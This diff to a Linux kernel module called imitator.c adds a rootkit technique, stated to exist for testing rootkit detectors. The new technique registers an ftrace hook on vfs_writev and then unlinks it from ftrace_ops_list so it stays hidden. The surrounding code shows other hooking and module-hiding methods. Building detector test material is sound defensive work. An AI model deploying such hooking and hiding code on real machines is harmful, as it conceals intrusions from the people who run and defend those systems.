@@ -2,8 +2,9 @@
 /*
  * imitator.c - does to its machine what public rootkits do, one technique at a time, for tests of what finds it
  *
- * technique: ftrace (an ftrace_ops on vfs_read), kprobe (on vfs_write), pointer (to a function of its own, written at
- * the address at), branch (to that function, likewise). hide: 1 off the list of modules, 2 off mod_tree, 4 out of
+ * technique: ftrace (an ftrace_ops on vfs_read), unlisted (one on vfs_writev, taken off ftrace_ops_list, which is at the
+ * address at), kprobe (on vfs_write), pointer (to a function of its own, written at the address at), branch (to that
+ * function, likewise). hide: 1 off the list of modules, 2 off mod_tree, 4 out of
  * /sys/module.
  */
 #include <linux/ftrace.h>
@@ -73,12 +74,22 @@ static DECLARE_DELAYED_WORK(vanish, disappear);
 
 static int __init imitator_init(void)
 {
+	struct ftrace_ops **link;
 	void *pointer = of_its_own;
 	u32 branch = 0x14000000 | (((unsigned long)of_its_own - at) >> 2 & 0x3ffffff);
 
 	if (!strcmp(technique, "ftrace")) {
 		ftrace_set_filter(&hook, "vfs_read", 8, 0);
 		register_ftrace_function(&hook);
+	} else if (!strcmp(technique, "unlisted")) {
+		ftrace_set_filter(&hook, "vfs_writev", 10, 0);
+		register_ftrace_function(&hook);
+		for (link = (struct ftrace_ops **)at; *link; link = &(*link)->next) {
+			if (*link == &hook) {
+				*link = hook.next;
+				break;
+			}
+		}
 	} else if (!strcmp(technique, "kprobe")) {
 		register_kprobe(&probe);
 	} else if (!strcmp(technique, "pointer")) {
